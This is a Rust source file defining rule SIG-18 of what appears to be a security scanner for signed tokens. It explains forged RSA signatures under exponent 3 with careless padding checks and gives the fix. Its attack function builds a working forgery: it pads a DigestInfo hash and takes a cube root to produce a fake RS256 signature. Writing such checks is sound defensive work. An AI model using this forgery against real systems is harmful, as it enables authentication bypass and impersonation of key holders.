//! SIG-18: Forged RSA padding with a small exponent.

use crate::live::{Plan, Scene};
use crate::rules::prelude::*;
use aws_lc_rs::digest;
use num_bigint::BigUint;

pub(super) static RULE: Rule = Rule {
    id: "SIG-18",
    title: "Forged RSA padding with a small exponent",
    tier: Tier::Active,
    severity: Severity::Critical,
    references: "RFC 8017 8.2.2; RFC 8725 3.4; CWE-347",
    why: "With the exponent 3 and a careless padding check a signature is a cube root.",
    fix: "Use keys with the exponent 65537, and a library that compares the whole padded block.",
    bad: Example::behaviour("A signature whose padded block ends early and has garbage behind is accepted."),
    good: Example::behaviour("The whole block is compared."),
    checks: &[Check::Attack(attack)],
};

fn attack(scene: &Scene) -> Plan {
    let three = BigUint::from(3u8);
    let Some((key, n)) = scene
        .keys
        .iter()
        .find_map(|key| Some((key, key.modulus().filter(|_| key.integer("e").as_ref() == Some(&three))?)))
    else {
        return Plan::not_applicable("no published key has the exponent 3");
    };
    let forge = scene.forge();
    let header = forge.header("RS256");
    let input = forge.input(&header, &forge.claims_json());
    let hash = digest::digest(&digest::SHA256, input.as_bytes());
    // 00 01 FF.. 00 DigestInfo hash, and then anything: the cube root of such a number, rounded up, is the signature.
    let info = hex("3031300d060960864801650304020105000420").unwrap_or_default();
    let start = [&[0, 1, 255, 255, 255, 255, 255, 255, 255, 255, 0][..], &info, hash.as_ref()].concat();
    let size = usize::try_from(n.bits().div_ceil(8)).unwrap_or(256);
    let low = BigUint::from_bytes_be(&start) << ((size - start.len()) * 8);
    let root = low.cbrt() + 1u8;
    let bytes = root.to_bytes_be();
    let signature = [vec![0; size.saturating_sub(bytes.len())], bytes].concat();
    Plan::of(vec![forge.with_signature(
        &format!("a cube root in place of a signature by {}", key.name()),
        &header,
        &signature,
    )])
}
